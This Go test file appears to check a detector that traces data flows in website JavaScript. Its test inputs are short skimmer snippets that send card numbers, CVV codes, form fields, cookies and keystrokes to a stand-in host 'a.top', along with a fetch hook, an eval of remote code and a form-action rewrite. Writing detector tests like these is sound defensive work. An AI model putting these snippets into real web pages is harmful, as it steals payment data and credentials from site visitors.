package flow_test

import (
	"testing"

	"tradecraft/intake/site/script/flow"
	"tradecraft/intake/site/script/host"
	"tradecraft/intake/site/script/tree"
)

// TestPaths: what reaches which kind of sink, at which host.
func TestPaths(t *testing.T) {
	tests := map[string]struct {
		text, kind, host string
		taint            flow.Taint
	}{
		"fetch":      {`fetch("https://a.top/x",{body:document.getElementById("cvv").value})`, "fetch", "a.top", flow.PayValue},
		"xhr":        {`var x=new XMLHttpRequest();x.open("POST","//a.top/x");x.send(btoa($("[name=cardnumber]").val()))`, "xhr", "a.top", flow.PayValue | flow.Encoded},
		"loop":       {`var s="";var e=document.querySelectorAll("input");for(var i=0;i<e.length;i++){s+=e[i].value}new Image().src="http://a.top/?"+s`, "image", "a.top", flow.AllValues},
		"callback":   {`var o={};document.querySelectorAll("input").forEach(function(i){o[i.name]=i.value});navigator.sendBeacon("https://a.top",JSON.stringify(o))`, "beacon", "a.top", flow.AllValues | flow.Encoded},
		"function":   {`function g(){return $("form").serialize()}function p(d){$.ajax({url:u,data:d})}var u="https://a.top/";p(g())`, "ajax", "a.top", flow.AllValues},
		"property":   {`var c={};c.gate="https://a.top/g.php";c.card=document.getElementById("cc_number").value;fetch(c.gate,{method:"POST",body:c.card})`, "fetch", "a.top", flow.PayValue},
		"websocket":  {`var w=new WebSocket("wss://a.top/s");w.send(document.cookie)`, "websocket", "a.top", flow.Cookie},
		"own site":   {`fetch("/api",{body:$("form").serialize()})`, "fetch", "", flow.AllValues},
		"keystrokes": {`var k="";document.onkeypress=function(e){k+=String.fromCharCode(e.which);new Image().src="https://a.top/?"+k}`, "image", "a.top", flow.Key},
		"hook":       {`window.fetch=function(u,o){navigator.sendBeacon("https://a.top",o.body)}`, "beacon", "a.top", flow.Request},
		"network":    {`var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)}`, "code", "", flow.Net},
		"form":       {`document.forms[0].action="https://a.top/p"`, "form", "a.top", 0},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			f := flow.Analyze(tree.ParseString(tt.text), &host.Judge{})
			for _, s := range f.Sinks {
				if s.Kind == tt.kind && s.Host.Name == tt.host && s.Taint&tt.taint == tt.taint {
					return
				}
			}
			t.Errorf("no %s to %q in %+v", tt.kind, tt.host, f.Sinks)
		})
	}
}
